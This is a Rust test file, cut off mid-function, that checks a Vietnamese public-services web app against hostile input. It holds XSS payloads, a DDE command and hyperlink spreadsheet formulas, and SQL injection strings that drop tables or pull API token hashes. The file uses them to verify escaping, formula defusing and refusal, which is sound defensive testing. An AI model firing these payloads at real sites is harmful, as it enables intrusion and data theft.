//! Hostile input through the pages (docs/ROBUSTNESS.md): markup, template syntax, script URLs
//! and invisible characters in every free-text field a person can enter and a page shows
//! (rendered inert everywhere, formulas defused in the spreadsheet exports); hidden controls
//! and over-long text refused with a clear answer and nothing stored; SQL metacharacters in
//! every filter of the pages and of the KPI API on SQLite and PostgreSQL.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::sync::Arc;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use tinhso_app::admin::{AdminError, AgencyForm, StaffForm};
use tinhso_app::dossiers::{ActionRequest, AttachmentInput, DossierError, IntakeRequest};
use tinhso_app::imports::ImportOptions;
use tinhso_app::progress::NoProgress;
use tinhso_app::{App, AppSettings, FixedClock};
use tinhso_domain::catalog::Channel;
use tinhso_domain::dossier::Role;
use tinhso_objects::LocalDiskStore;
use tinhso_store::dossiers::{Applicant, User};
use tinhso_web::{router, AppState, Metrics};

use crate::dossiers::small_pdf;
use crate::engines::{database, row_counts, Database, ENGINES};
use crate::pages::{csrf_field, send, Visitor};
use crate::portal::{by_id, input_value, post_multipart, review_fields};
use crate::TestServer;

const PASSWORD: &str = tinhso_app::demo::DEMO_PASSWORD;
const WARD: &str = tinhso_app::demo::DEMO_AGENCY;
const PROCEDURE: &str = "1.001193";
/// The procedure imported with hostile names.
const HOSTILE_PROCEDURE: &str = "1.999991";

/// A demo province with the demo users and an object store, on one engine.
struct Served {
    s: TestServer,
    db: Database,
    /// API tokens by demo user id.
    tokens: BTreeMap<String, String>,
}

async fn served(engine: &'static str) -> Option<Served> {
    let db = database(engine, "tinhso_web_hostile").await?;
    let store = tinhso_app::open_store(&db.url).await.expect("store");
    let local: jiff::civil::DateTime = "2026-03-02T09:00:00".parse().expect("time");
    let clock = Arc::new(FixedClock::new(tinhso_app::clock::from_local(local)));
    let app = App::new(store, clock, AppSettings::default())
        .await
        .expect("app")
        .with_objects(Arc::new(
            LocalDiskStore::open(db.dir.join("objects")).expect("objects"),
        ));
    app.load_demo(&NoProgress).await.expect("demo");
    let tokens = app
        .load_demo_users()
        .await
        .expect("demo users")
        .into_iter()
        .map(|(id, _, token)| (id, token))
        .collect();
    let app = Arc::new(app);
    let state = AppState {
        app: app.clone(),
        metrics: Metrics::install(),
    };
    let s = TestServer {
        router: router(state),
        app,
        // The database folder is removed by `Database`; this one is a sub-folder.
        _dir: db.dir.join("server"),
    };
    Some(Served { s, db, tokens })
}

/// A counter intake of 1.001193 at the officer's ward.
fn counter_intake(name: &str, address: &str, comment: &str) -> IntakeRequest {
    IntakeRequest {
        procedure_code: PROCEDURE.into(),
        channel: Channel::Counter,
        receiving_agency: None,
        competent_agency: None,
        applicant: Applicant {
            name: name.into(),
            kind: 1,
            id_number: String::new(),
            phone: String::new(),
            email: String::new(),
            address: address.into(),
        },
        form: serde_json::json!({}),
        attachments: Vec::new(),
        comment: Some(comment.into()),
    }
}

async fn user(s: &TestServer, id: &str) -> User {
    s.app.store.user(id).await.expect("store").expect("user")
}

async fn signed_in(s: &TestServer, id: &str) -> Visitor {
    let mut v = Visitor::new();
    v.sign_in(s, id, PASSWORD).await;
    v
}

/// Markup for an element and for an attribute, a template expression, a script URL, a
/// zero-width space and an ampersand entity, after a tag naming the field.
fn hostile(tag: &str) -> String {
    format!(
        "{tag}<script>alert(1)</script>\"><img src=x onerror=alert(1)>'{{{{7*7}}}} \
         javascript:alert(1)\u{200b} &amp; đ"
    )
}

/// How `hostile(tag)` starts once escaped for HTML (askama writes `&#60;` for `<`).
fn escaped_start(tag: &str) -> String {
    format!("{tag}&#60;script&#62;alert(1)&#60;/script&#62;")
}

/// The fields filled with `hostile(tag)`, by tag; `true` when the page must show the text
/// whole (escaped), `false` for file names, which are made safe first (only the tag is kept).
const TAGS: &[(&str, bool)] = &[
    // A procedure imported with hostile names.
    ("PROCNAME", true),
    ("PROCFIELD", true),
    ("PROCPART", true),
    // Names set by administrators.
    ("AGENCY", true),
    ("STAFF", true),
    // The citizen's online submission.
    ("APPNAME", true),
    ("ADDRESS", true),
    ("CONTENT", true),
    ("NOTE", true),
    ("FILENAME", false),
    // Comments, reasons, the supplement, the result, the rating.
    ("ACCEPTNOTE", true),
    ("SUPPREASON", true),
    ("SUPPNOTE", true),
    ("SUPPFILE", false),
    ("FORWARD", true),
    ("RESULTPART", true),
    ("RESULTFILE", false),
    ("RATING", true),
    // Counter intake: address, comment; a refusal. (The e-form's other answers are sent too,
    // but no page shows them: only `noi_dung`, the citizen's CONTENT.)
    ("COUNTERADDR", true),
    ("COUNTERNOTE", true),
    ("REFUSAL", true),
    // Search and look-up queries echoed back, the sign-in form's account.
    ("SEARCHQ", true),
    ("QUEUEQ", true),
    ("INTAKEQ", true),
    ("USERQ", true),
    ("AGENCYQ", true),
    ("LOOKUPQ", true),
    ("SIGNINQ", true),
];

/// Markup that would run if any hostile text reached a page unescaped.
const LIVE_MARKUP: &[&str] = &[
    "<script>alert",
    "<img src=x",
    "\"><img",
    "onerror=alert(1)>",
    "href=\"javascript:",
    "src=\"javascript:",
    "action=\"javascript:",
    "<svg",
];

/// Checks that a page holds no live markup; returns the tags shown on it (escaped when
/// `full`, as text otherwise).
fn inert(page: &str, html: &str, tags: &[(&str, bool)], failures: &mut Vec<String>) -> Vec<String> {
    for live in LIVE_MARKUP {
        // The dashboard's own charts are SVG drawn by the server (`class="chart"`); any other
        // `<svg` is markup that came from outside.
        let found = html
            .match_indices(live)
            .map(|(at, _)| at)
            .find(|&at| !(*live == "<svg" && html[at..].starts_with("<svg class=\"chart\"")));
        if let Some(at) = found {
            let from = at.saturating_sub(120);
            let to = (at + 120).min(html.len());
            let context = String::from_utf8_lossy(&html.as_bytes()[from..to]).into_owned();
            failures.push(format!("{page}: live markup {live:?}: …{context}…"));
        }
    }
    tags.iter()
        .filter(|(tag, full)| {
            if *full {
                html.contains(&escaped_start(tag))
            } else {
                html.contains(tag)
            }
        })
        .map(|(tag, _)| tag.to_string())
        .collect()
}

fn quote_csv(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// The texts of a workbook's sheets and shared strings, and whether any cell is a formula.
fn xlsx_text(bytes: &[u8]) -> (String, bool) {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an XLSX is a zip");
    let mut text = String::new();
    let mut formula = false;
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).expect("entry");
        let name = f.name().map(|n| n.to_string()).unwrap_or_default();
        if !name.ends_with(".xml") {
            continue;
        }
        let mut xml = String::new();
        f.read_to_string(&mut xml).expect("xml");
        if name.starts_with("xl/worksheets/") && (xml.contains("<f>") || xml.contains("<f ")) {
            formula = true;
        }
        text.push_str(&xml);
    }
    (text, formula)
}

#[tokio::test]
async fn markup_in_every_free_text_field_is_inert_on_every_page_and_export() {
    let Some(served) = served("sqlite").await else {
        return;
    };
    let s = &served.s;
    let province = user(s, "qt-tinh").await;

    // A procedure imported with hostile names (its name, field and a component).
    let csv = format!(
        "code,name,levels,fields,online_level,time_limit,cutoff_15h,fee_vnd,agency_eids,components\n\
         {HOSTILE_PROCEDURE},{},commune,{},full,3 ngày làm việc,false,,{WARD},{}\n",
        quote_csv(&hostile("PROCNAME")),
        quote_csv(&hostile("PROCFIELD")),
        quote_csv(&format!("{}#1/0", hostile("PROCPART"))),
    );
    s.app
        .import_procedures_text("hostile.csv", &csv, ImportOptions::default(), &NoProgress)
        .await
        .expect("import");

    // Names set by administrators: the ward's name, the one-stop officer's name.
    let agencies = s.app.store.agencies().await.expect("agencies");
    let ward = agencies
        .iter()
        .find(|a| a.eid.as_str() == WARD)
        .expect("ward");
    let form = AgencyForm {
        name: hostile("AGENCY"),
        ..AgencyForm::of(ward)
    };
    s.app
        .admin_save_agency(&province, &form, false)
        .await
        .expect("agency renamed");
    let staff = StaffForm {
        id: "mc-phukhuong".into(),
        name: hostile("STAFF"),
        agency: WARD.into(),
        roles: vec![Role::OneStopOfficer],
        password: String::new(),
    };
    s.app
        .admin_update_user(&province, "mc-phukhuong", &staff)
        .await
        .expect("officer renamed");

    // A citizen submits online: every field of the form and a file name are hostile.
    let mut failures = Vec::new();
    let mut seen: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    let mut citizen = signed_in(s, "cong-dan-demo").await;
    let (_, _, html) = citizen.get(s, &format!("/nop-ho-so/{PROCEDURE}")).await;
    let csrf = csrf_field(&html);
    let key = input_value(&html, "khoa").expect("idempotency key");
    let (name, address, content, note) = (
        hostile("APPNAME"),
        hostile("ADDRESS"),
        hostile("CONTENT"),
        hostile("NOTE"),
    );
    let pdf = small_pdf();
    let (status, _, review) = post_multipart(
        s,
        &citizen,
        &format!("/nop-ho-so/{PROCEDURE}"),
        &[
            ("csrf", &csrf),
            ("khoa", &key),
            ("co_quan", WARD),
            ("ho_ten", &name),
            ("so_dinh_danh", "086190000123"),
            ("dien_thoai", "0912 345 678"),
            ("email", "nhung@example.vn"),
            ("dia_chi", &address),
            ("noi_dung", &content),
            ("ghi_chu", &note),
        ],
        &[(
            "tep_0",
            "<img src=x onerror=alert(1)>FILENAME\u{202e}fdp.exe.pdf",
            &pdf,
        )],
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{review}");
    let mut check = |page: &str, html: &str, failures: &mut Vec<String>| {
        for tag in inert(page, html, TAGS, failures) {
            seen.entry(tag).or_default().insert(page.to_string());
        }
    };
    check("review", &review, &mut failures);
    let fields = review_fields(&review);
    let pairs: Vec<(&str, &str)> = fields
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let (status, _, done) = citizen
        .post_form(s, &format!("/nop-ho-so/{PROCEDURE}/xac-nhan"), &pairs)
        .await;
    assert_eq!(status, StatusCode::OK, "{done}");
    check("submitted", &done, &mut failures);
    let code = by_id(&done, "ma-ho-so").expect("dossier code");
    let secret = by_id(&done, "ma-tra-cuu").expect("secret");

    // Officers act with hostile comments and reasons; the citizen supplements and rates.
    let act = |who: &'static str, req: ActionRequest| {
        let code = code.clone();
        async move {
            let u = user(s, who).await;
            s.app
                .act(&u, &code, req, None)
                .await
                .unwrap_or_else(|e| panic!("{who}: {e}"))
                .status
        }
    };
    let action = |name: &str| ActionRequest {
        action: name.into(),
        ..Default::default()
    };
    act(
        "mc-phukhuong",
        ActionRequest {
            comment: Some(hostile("ACCEPTNOTE")),
            ..action("accept")
        },
    )
    .await;
    act(
        "cv-phukhuong",
        ActionRequest {
            reason: Some(hostile("SUPPREASON")),
            ..action("request_supplement")
        },
    )
    .await;
    let page = format!("/ho-so-cua-toi/{code}");
    let (_, _, html) = citizen.get(s, &page).await;
    let csrf = csrf_field(&html);
    let key = input_value(&html, "khoa").expect("supplement key");
    let supplement_note = hostile("SUPPNOTE");
    let (status, _, body) = post_multipart(
        s,
        &citizen,
        &format!("{page}/bo-sung"),
        &[
            ("csrf", &csrf),
            ("khoa", &key),
            ("ghi_chu", &supplement_note),
        ],
        &[("tep_1", "<b>SUPPFILE<img src=x onerror=alert(1)>.pdf", &pdf)],
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{body}");
    act(
        "cv-phukhuong",
        ActionRequest {
            to_step: Some("approve".into()),
            comment: Some(hostile("FORWARD")),
            ..action("forward")
        },
    )
    .await;
    act("ld-phukhuong", action("approve")).await;
    let clerk = user(s, "vt-phukhuong").await;
    let mut result_pdf = small_pdf();
    result_pdf.extend_from_slice(b"% ket qua\n");
    let result = s
        .app
        .upload_attachment(&clerk, "ket-qua.pdf", &result_pdf)
        .await
        .expect("result upload");
    act(
        "vt-phukhuong",
        ActionRequest {
            attachments: vec![AttachmentInput {
                component: hostile("RESULTPART"),
                sha256: result.sha256.clone(),
                name: Some("RESULTFILE\"><svg onload=alert(1)>.pdf".into()),
            }],
            ..action("result_ready")
        },
    )
    .await;
    assert_eq!(act("mc-phukhuong", action("deliver")).await, 10);
    let (_, _, html) = citizen.get(s, &page).await;
    let csrf = csrf_field(&html);
    let rating = hostile("RATING");
    let (status, _, body) = citizen
        .post_form(
            s,
            &format!("{page}/danh-gia"),
            &[("csrf", &csrf), ("diem", "4"), ("nhan_xet", &rating)],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{body}");

    // Counter dossiers whose applicants' names are spreadsheet formulas; one refused.
    let officer = user(s, "mc-phukhuong").await;
    let formulas = [
        "=HYPERLINK(\"http://evil.invalid/\",\"FORMULA\")",
        "+SUM(1+1)FORMULA",
        "-2+3FORMULA",
        "@SUM(A1)FORMULA",
        "=cmd|' /C calc'!A0FORMULA",
    ];
    let mut counter_codes = Vec::new();
    for (i, applicant) in formulas.iter().enumerate() {
        let view = s
            .app
            .submit_dossier(
                &officer,
                IntakeRequest {
                    form: serde_json::json!({ (hostile("FORMKEY")): hostile("FORMVALUE") }),
                    ..counter_intake(applicant, &hostile("COUNTERADDR"), &hostile("COUNTERNOTE"))
                },
                Some(&format!("hostile-counter-{i}")),
            )
            .await
            .expect("counter intake");
        counter_codes.push(view.code);
    }
    let refused = counter_codes[0].clone();
    s.app
        .act(
            &officer,
            &refused,
            ActionRequest {
                reason: Some(hostile("REFUSAL")),
                ..action("refuse")
            },
            None,
        )
        .await
        .expect("refused");

    // Every page that shows these texts, and searches that echo a hostile query.
    let mut anonymous = Visitor::new();
    let mut mc = signed_in(s, "mc-phukhuong").await;
    let mut admin = signed_in(s, "qt-tinh").await;
    let q = |tag: &str| tinhso_web::html::session::encode_query(&hostile(tag));
    let citizen_pages = [
        "/ho-so-cua-toi".to_string(),
        page.clone(),
        format!("/nop-ho-so/{PROCEDURE}"),
        format!("/thu-tuc/{HOSTILE_PROCEDURE}"),
    ];
    let officer_pages = vec![
        "/can-bo?hang=tat-ca".to_string(),
        format!("/can-bo?hang=tat-ca&q={}", q("QUEUEQ")),
        format!("/can-bo/ho-so/{code}"),
        format!("/can-bo/ho-so/{code}/in"),
        format!("/can-bo/ho-so/{refused}"),
        format!("/can-bo/ho-so/{}", counter_codes[1]),
        "/can-bo/so-theo-doi?tu=2026-03-01&den=2026-03-31".to_string(),
        format!("/can-bo/tiep-nhan?tim={}", q("INTAKEQ")),
        "/can-bo/tiep-nhan?tim=procname".to_string(),
        format!("/can-bo/tiep-nhan?ma={HOSTILE_PROCEDURE}"),
    ];
    let admin_pages = vec![
        "/quan-tri/nguoi-dung".to_string(),
        format!("/quan-tri/nguoi-dung?q={}", q("USERQ")),
        "/quan-tri/nguoi-dung/mc-phukhuong".to_string(),
        "/quan-tri/co-quan".to_string(),
        format!("/quan-tri/co-quan?q={}", q("AGENCYQ")),
        format!("/quan-tri/co-quan/{WARD}"),
        "/quan-tri/thu-tuc".to_string(),
        format!("/quan-tri/thu-tuc/{HOSTILE_PROCEDURE}"),
        // The operations dashboard names agencies (the ward's hostile name) in its ranking,
        // heat table and wall screen.
        "/dieu-hanh".to_string(),
        "/dieu-hanh/xep-hang?by=agency".to_string(),
        "/dieu-hanh/nhiet-do".to_string(),
        "/dieu-hanh/man-hinh".to_string(),
    ];
    let anonymous_pages = vec![
        format!("/thu-tuc?q={}", q("SEARCHQ")),
        "/thu-tuc?q=procname".to_string(),
        format!("/thu-tuc/{HOSTILE_PROCEDURE}"),
        format!("/tra-cuu?ma={}", q("LOOKUPQ")),
        "/minh-bach".to_string(),
    ];
    for (who, visitor, pages) in [
        ("citizen", &mut citizen, citizen_pages.to_vec()),
        ("officer", &mut mc, officer_pages),
        ("admin", &mut admin, admin_pages),
        ("anonymous", &mut anonymous, anonymous_pages),
    ] {
        for uri in pages {
            let (status, h, html) = visitor.get(s, &uri).await;
            let name = format!("{who} GET {uri}");
            if status != StatusCode::OK {
                failures.push(format!("{name}: {status}"));
                continue;
            }
            let ct = h[header::CONTENT_TYPE].to_str().unwrap_or("");
            if !ct.starts_with("text/html") {
                failures.push(format!("{name}: content type {ct}"));
            }
            check(&name, &html, &mut failures);
        }
    }
    // The public look-up by code and secret, and a sign-in form that echoes the account.
    let (_, _, html) = anonymous.get(s, "/tra-cuu").await;
    let csrf = csrf_field(&html);
    let (status, _, html) = anonymous
        .post_form(
            s,
            "/tra-cuu",
            &[("csrf", &csrf), ("ma", &code), ("ma_bi_mat", &secret)],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{html}");
    check("anonymous POST /tra-cuu", &html, &mut failures);
    let (_, _, html) = anonymous.get(s, "/dang-nhap").await;
    let csrf = csrf_field(&html);
    let account = hostile("SIGNINQ");
    let (_, _, html) = anonymous
        .post_form(
            s,
            "/dang-nhap",
            &[("csrf", &csrf), ("account", &account), ("password", "sai")],
        )
        .await;
    check("anonymous POST /dang-nhap", &html, &mut failures);

    // Forms as PDF: produced (the text is drawn, never interpreted).
    for uri in [
        format!("/can-bo/ho-so/{code}/mau/01"),
        format!("/can-bo/ho-so/{refused}/mau/03"),
    ] {
        let (status, _, body) = mc.get(s, &uri).await;
        if status != StatusCode::OK || !body.starts_with("%PDF") {
            failures.push(format!("GET {uri}: {status}, not a PDF"));
        }
    }

    // The register as CSV: every formula-looking cell starts with an apostrophe.
    let base = "/can-bo/so-theo-doi/tai-ve?tu=2026-03-01&den=2026-03-31&dinh_dang=";
    let (status, h, csv) = mc.get(s, &format!("{base}csv")).await;
    assert_eq!(status, StatusCode::OK, "{csv}");
    assert!(h[header::CONTENT_TYPE]
        .to_str()
        .unwrap_or("")
        .starts_with("text/csv"));
    for formula in formulas {
        let defused = format!("'{formula}");
        if !csv.contains(&defused) && !csv.contains(&quote_csv(&defused)) {
            failures.push(format!("register CSV: no defused {formula:?} in {csv}"));
        }
    }
    for line in csv.lines() {
        let mut cells = Vec::new();
        let mut rest = line;
        // Cells start after a separator or at the line's start, quoted or not.
        while !rest.is_empty() {
            cells.push(rest.trim_start_matches('"'));
            match rest.find(',') {
                Some(i) => rest = &rest[i + 1..],
                None => break,
            }
        }
        for cell in cells {
            if cell.starts_with(['=', '+', '-', '@']) {
                failures.push(format!("register CSV: a live formula cell in {line:?}"));
            }
        }
    }
    // As XLSX: the texts are strings, never formulas.
    let bytes = get_bytes(s, &mc, &format!("{base}xlsx")).await;
    let (xml, formula) = xlsx_text(&bytes);
    if formula {
        failures.push("register XLSX: a cell is a formula".into());
    }
    if !xml.contains("=HYPERLINK(") || !xml.contains("@SUM(A1)FORMULA") {
        failures.push("register XLSX: the applicants' names are missing".into());
    }
    let (status, _, pdf_register) = mc.get(s, &format!("{base}pdf")).await;
    if status != StatusCode::OK || !pdf_register.starts_with("%PDF") {
        failures.push(format!("register PDF: {status}"));
    }

    // The agency's name reaches the dashboard and the public transparency page, escaped.
    for page in [
        "admin GET /dieu-hanh/xep-hang?by=agency",
        "admin GET /dieu-hanh/nhiet-do",
        "anonymous GET /minh-bach",
    ] {
        if !seen.get("AGENCY").is_some_and(|pages| pages.contains(page)) {
            failures.push(format!("{page}: the agency's name is not shown escaped"));
        }
    }
    for (tag, _) in TAGS {
        if !seen.contains_key(*tag) {
            failures.push(format!(
                "{tag}: the field is shown on none of the pages visited"
            ));
        }
    }
    for (tag, pages) in &seen {
        eprintln!(
            "{tag}: {}",
            pages.iter().cloned().collect::<Vec<_>>().join(" | ")
        );
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn cookie(v: &Visitor) -> String {
    v.cookies
        .iter()
        .map(|(k, val)| format!("{k}={val}"))
        .collect::<Vec<_>>()
        .join("; ")
}

/// A download's bytes (binary: not through the text helpers).
async fn get_bytes(s: &TestServer, v: &Visitor, uri: &str) -> Vec<u8> {
    use http_body_util::BodyExt;
    use tower::ServiceExt;
    let req = Request::get(uri)
        .header(header::COOKIE, cookie(v))
        .body(Body::empty())
        .expect("request");
    let resp = s.router.clone().oneshot(req).await.expect("response");
    assert_eq!(resp.status(), StatusCode::OK, "{uri}");
    resp.into_body()
        .collect()
        .await
        .expect("body")
        .to_bytes()
        .to_vec()
}

#[tokio::test]
async fn hidden_controls_and_over_long_text_are_refused_and_store_nothing() {
    let Some(served) = served("sqlite").await else {
        return;
    };
    let s = &served.s;
    let officer = user(s, "mc-phukhuong").await;
    let province = user(s, "qt-tinh").await;
    let mut citizen = signed_in(s, "cong-dan-demo").await;
    let counter = |name: String, comment: String| counter_intake(&name, "", &comment);
    let good = s
        .app
        .submit_dossier(
            &officer,
            counter("Trần Văn Tốt".into(), String::new()),
            None,
        )
        .await
        .expect("a good dossier");
    let before = row_counts(&served.db.url).await;

    // The API and the use cases: a clear invalid_request, naming the field.
    let cases = [
        (
            counter("Nguyễn\u{202e}nầV".into(), String::new()),
            "applicant.name",
        ),
        (
            counter("Nguyễn Văn A".into(), "x\u{2066}y".into()),
            "comment",
        ),
        (counter("đ".repeat(201), String::new()), "applicant.name"),
        (counter("Nguyễn Văn A".into(), "a".repeat(2001)), "comment"),
    ];
    for (req, field) in cases {
        match s.app.submit_dossier(&officer, req, None).await {
            Err(e @ DossierError::InvalidRequest(_)) => {
                assert!(e.to_string().contains(field), "{e}");
            }
            other => panic!("{field}: {other:?}"),
        }
    }
    let mut form = counter("Nguyễn Văn A".into(), String::new());
    form.form = serde_json::json!({ "ho_ten_tre": "Bé\u{202d}" });
    assert!(matches!(
        s.app.submit_dossier(&officer, form, None).await,
        Err(DossierError::InvalidRequest(_))
    ));
    for (reason, comment) in [
        ("lý do\u{202e}", ""),
        ("lý do", "\u{1b}[31m"),
        ("x", &*"b".repeat(2001)),
    ] {
        let req = ActionRequest {
            action: "refuse".into(),
            reason: Some(reason.into()),
            comment: Some(comment.into()),
            ..Default::default()
        };
        assert!(
            matches!(
                s.app.act(&officer, &good.code, req, None).await,
                Err(DossierError::InvalidRequest(_))
            ),
            "{reason:?} {comment:?}"
        );
    }
    // Administrators' forms: a problem on the name field.
    let staff = StaffForm {
        id: "mc-phukhuong".into(),
        name: "Trần\u{202e}".into(),
        agency: WARD.into(),
        roles: vec![Role::OneStopOfficer],
        password: String::new(),
    };
    match s
        .app
        .admin_update_user(&province, "mc-phukhuong", &staff)
        .await
    {
        Err(AdminError::Invalid(problems)) => {
            assert!(problems
                .iter()
                .any(|p| p.field == "name" && p.code == "hidden_control"));
        }
        other => panic!("{other:?}"),
    }
    // The pages: the form again with the message, 422.
    let (_, _, html) = citizen.get(s, &format!("/nop-ho-so/{PROCEDURE}")).await;
    let csrf = csrf_field(&html);
    let key = input_value(&html, "khoa").expect("key");
    for name in [String::from("Nguyễn\u{202e}Văn"), "đ".repeat(201)] {
        let (status, _, html) = post_multipart(
            s,
            &citizen,
            &format!("/nop-ho-so/{PROCEDURE}"),
            &[
                ("csrf", &csrf),
                ("khoa", &key),
                ("co_quan", WARD),
                ("ho_ten", &name),
                ("noi_dung", "Đăng ký khai sinh"),
            ],
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{html}");
        assert!(
            html.contains("điều khiển ẩn") || html.contains("tối đa 200 ký tự"),
            "{html}"
        );
    }
    let mut admin = signed_in(s, "qt-tinh").await;
    let (_, _, html) = admin.get(s, "/quan-tri/nguoi-dung/mc-phukhuong").await;
    let csrf = csrf_field(&html);
    let (status, _, html) = admin
        .post_form(
            s,
            "/quan-tri/nguoi-dung/mc-phukhuong/vai-tro",
            &[
                ("csrf", &csrf),
                ("name", "Trần\u{202e}Văn"),
                ("agency", WARD),
                ("roles", "one_stop_officer"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{html}");
    assert!(html.contains("điều khiển ẩn"), "{html}");

    // Nothing was stored by any refusal (sessions of the sign-ins aside).
    let after = row_counts(&served.db.url).await;
    let changed: Vec<_> = after
        .iter()
        .filter(|(t, n)| before.get(*t) != Some(n))
        .filter(|(t, _)| !t.contains("session") && !t.contains("login"))
        .collect();
    assert!(changed.is_empty(), "rows changed: {changed:?}");
    let mine = user(s, "mc-phukhuong").await;
    assert!(!mine.name.contains('\u{202e}'));
}

/// SQL metacharacters, LIKE wildcards, a NUL byte and over-long values.
fn injections() -> Vec<String> {
    let mut v: Vec<String> = [
        "' OR 1=1--",
        "' OR '1'='1",
        "\"; DROP TABLE dossiers;--",
        "'; DROP TABLE dossiers; --",
        "') UNION SELECT id, name, token_hash FROM api_tokens --",
        "%",
        "_",
        "\\",
        "\\%",
        "%' --",
        "a\0b",
        "$1",
        "*",
        "NEAR(a b)",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    // Far over every field's limit, within what an HTTP request line carries.
    v.push("a".repeat(4_000));
    v.push("%đ'".repeat(400));
    v
}

#[derive(Clone, Copy, PartialEq, Debug)]
enum Lists {
    /// Any answer content is right.
    Anything,
    /// Must not show the dossier (no match, or not in scope).
    NotTheDossier,
    /// Must not list the one-stop officer's account.
    NoAccount,
    /// Must not list the ward (as a link of the agency list).
    NoAgency,
}

#[tokio::test]
async fn sql_metacharacters_in_every_page_and_kpi_filter_are_plain_text_on_every_engine() {
    for engine in ENGINES {
        let Some(served) = served(engine).await else {
            continue;
        };
        injection_round(&served).await;
    }
}

async fn injection_round(served: &Served) {
    let s = &served.s;
    let engine = served.db.engine;
    let officer = user(s, "mc-phukhuong").await;
    let dossier = s
        .app
        .submit_dossier(&officer, counter_intake("Trương Văn Quầy", "", ""), None)
        .await
        .expect("dossier");
    let code = dossier.code.clone();
    let mut visitors: BTreeMap<&str, Visitor> = BTreeMap::new();
    visitors.insert("anonymous", Visitor::new());
    for id in ["mc-phukhuong", "cong-dan-demo", "qt-tinh", "ld-phukhuong"] {
        visitors.insert(id, signed_in(s, id).await);
    }
    let before = row_counts(&served.db.url).await;
    use Lists::*;
    // (who, URI with {p} for the hostile value, what a 200 may show)
    let pages: &[(&str, &str, Lists)] = &[
        ("anonymous", "/thu-tuc?q={p}", Anything),
        ("anonymous", "/thu-tuc?linh_vuc={p}", Anything),
        (
            "anonymous",
            "/thu-tuc?cap={p}&muc_do={p}&trang={p}",
            Anything,
        ),
        ("anonymous", "/thu-tuc/{p}", Anything),
        // A form prefilled from the query (its example code may equal the dossier's).
        ("anonymous", "/tra-cuu?ma={p}", Anything),
        ("mc-phukhuong", "/can-bo?hang=tat-ca&q={p}", NotTheDossier),
        ("mc-phukhuong", "/can-bo?hang={p}&q={p}", NotTheDossier),
        ("mc-phukhuong", "/can-bo?hang=tat-ca&truoc={p}", Anything),
        ("mc-phukhuong", "/can-bo/ho-so/{p}", NotTheDossier),
        ("mc-phukhuong", "/can-bo/ho-so/{p}/in", NotTheDossier),
        ("mc-phukhuong", "/can-bo/tiep-nhan?tim={p}", Anything),
        ("mc-phukhuong", "/can-bo/tiep-nhan?ma={p}", Anything),
        (
            "mc-phukhuong",
            "/can-bo/so-theo-doi?tu={p}&den={p}",
            Anything,
        ),
        (
            "mc-phukhuong",
            "/can-bo/so-theo-doi/tai-ve?tu={p}&den=2026-03-31&dinh_dang=csv",
            Anything,
        ),
        (
            "mc-phukhuong",
            "/can-bo/so-theo-doi/tai-ve?tu=2026-03-01&den=2026-03-31&dinh_dang={p}",
            Anything,
        ),
        ("cong-dan-demo", "/ho-so-cua-toi/{p}", NotTheDossier),
        ("qt-tinh", "/quan-tri/nguoi-dung?q={p}", NoAccount),
        (
            "qt-tinh",
            "/quan-tri/nguoi-dung?co-quan={p}&vai-tro={p}",
            Anything,
        ),
        ("qt-tinh", "/quan-tri/nguoi-dung/{p}", NoAccount),
        ("qt-tinh", "/quan-tri/co-quan?q={p}", NoAgency),
        ("qt-tinh", "/quan-tri/co-quan/{p}", NoAgency),
        ("qt-tinh", "/quan-tri/thu-tuc/{p}", Anything),
        ("qt-tinh", "/quan-tri/lich?nam={p}", Anything),
    ];
    // The KPI API (bearer tokens), its scope and period parameters.
    let api: &[(&str, &str, Lists)] = &[
        ("ld-phukhuong", "/api/v1/kpi/report?period={p}", Anything),
        (
            "ld-phukhuong",
            "/api/v1/kpi/report?agency={p}&procedure={p}",
            Anything,
        ),
        (
            "qt-tinh",
            "/api/v1/kpi/report?field={p}&commune={p}&receiving={p}",
            Anything,
        ),
        (
            "qt-tinh",
            "/api/v1/kpi/trend?period={p}&agency={p}",
            Anything,
        ),
        ("qt-tinh", "/api/v1/kpi/ranking?by={p}&period={p}", Anything),
        ("qt-tinh", "/api/v1/kpi/heat?by={p}&period={p}", Anything),
        (
            "qt-tinh",
            "/api/v1/kpi/dossiers?indicator={p}&period=2026-03",
            NotTheDossier,
        ),
        (
            "qt-tinh",
            "/api/v1/kpi/dossiers?indicator=1.1&period={p}&format={p}&after={p}&limit={p}",
            NotTheDossier,
        ),
        ("mc-phukhuong", "/api/v1/dossiers?q={p}", NotTheDossier),
        (
            "mc-phukhuong",
            "/api/v1/dossiers?step={p}&procedure={p}&kind={p}",
            NotTheDossier,
        ),
        ("qt-tinh", "/api/v1/dossiers?q={p}", NotTheDossier),
        ("cong-dan-demo", "/api/v1/dossiers?q={p}", NotTheDossier),
        (
            "mc-phukhuong",
            "/api/v1/register?from={p}&to={p}&agency={p}",
            Anything,
        ),
        (
            "anonymous",
            "/api/v1/public/status?code={p}&secret={p}",
            NotTheDossier,
        ),
    ];
    let mut failures = Vec::new();
    let mut requests = 0;
    for value in injections() {
        let p = tinhso_web::html::session::encode_query(&value);
        let shown: String = value.chars().take(24).collect();
        for (who, template, lists) in pages.iter().chain(api) {
            let uri = template.replace("{p}", &p);
            let is_api = uri.starts_with("/api/");
            let (status, h, body) = if is_api {
                let mut req = Request::get(&uri);
                if let Some(token) = served.tokens.get(*who) {
                    req = req.header(header::AUTHORIZATION, format!("Bearer {token}"));
                }
                send(s, req.body(Body::empty()).expect("request")).await
            } else {
                let v = visitors.get_mut(who).expect("visitor");
                v.get(s, &uri).await
            };
            requests += 1;
            let cell = format!("{engine}: {who} GET {template} with {shown:?}");
            let ct = h
